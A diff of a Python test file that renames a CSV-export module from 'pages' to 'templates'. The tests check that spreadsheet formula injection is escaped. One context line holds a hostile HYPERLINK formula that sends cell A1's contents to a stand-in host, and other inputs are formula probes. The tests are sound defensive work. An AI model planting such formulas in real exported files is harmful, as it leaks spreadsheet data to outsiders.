@@ -12,7 +12,7 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from reports import pages
+from reports import templates
 from reports.papers import dpfpl_figure3
 from reports.report import Evidence
 from tests.prompt_evidence import attacked, built, prompt_evidence
@@ -26,7 +26,7 @@ EVIL = '=HYPERLINK("http://x?"&A1,"hello")'
 @pytest.mark.parametrize("start", COMPUTED, ids=[f"{ord(c):04x}" for c in COMPUTED])
 def test_text_that_would_be_computed_is_shown(start: str) -> None:
     table = pd.DataFrame({start: [f"{start}1+1", "a", None], "value": [-1.5, 2.0, 0.25], "n": [-1, 0, 1]})
-    back = pd.read_csv(io.BytesIO(pages.csv(table)), keep_default_na=False)
+    back = pd.read_csv(io.BytesIO(templates.csv(table)), keep_default_na=False)
     shown = start.replace("\r", "\n")
     assert list(back) == [f"'{shown}", "value", "n"]
     assert back.iloc[:, 0].tolist() == [f"'{shown}1+1", "a", ""]
@@ -35,16 +35,16 @@ def test_text_that_would_be_computed_is_shown(start: str) -> None:
 
 
 def test_numbers_among_text_stay_numbers() -> None:
-    assert pages.csv(pd.DataFrame({"x": ["none", -0.5, -3, True]})) == b"x\nnone\n-0.5\n-3\nTrue\n"
+    assert templates.csv(pd.DataFrame({"x": ["none", -0.5, -3, True]})) == b"x\nnone\n-0.5\n-3\nTrue\n"
 
 
 def test_ordinary_text_stays_as_it_is() -> None:
     table = pd.DataFrame({"client": ["client-00", "a=b", "", 'say "hi", twice']})
-    assert pages.csv(table).decode() == 'client\nclient-00\na=b\n""\n"say ""hi"", twice"\n'
+    assert templates.csv(table).decode() == 'client\nclient-00\na=b\n""\n"say ""hi"", twice"\n'
 
 
 def test_a_carriage_return_ends_no_cell() -> None:
-    assert list(cells(pages.csv(pd.DataFrame({"x": ["a\r=1+1"]})))) == ["x", "a\n=1+1"]
+    assert list(cells(templates.csv(pd.DataFrame({"x": ["a\r=1+1"]})))) == ["x", "a\n=1+1"]
 
 
 def hostile(e: Evidence) -> Evidence:
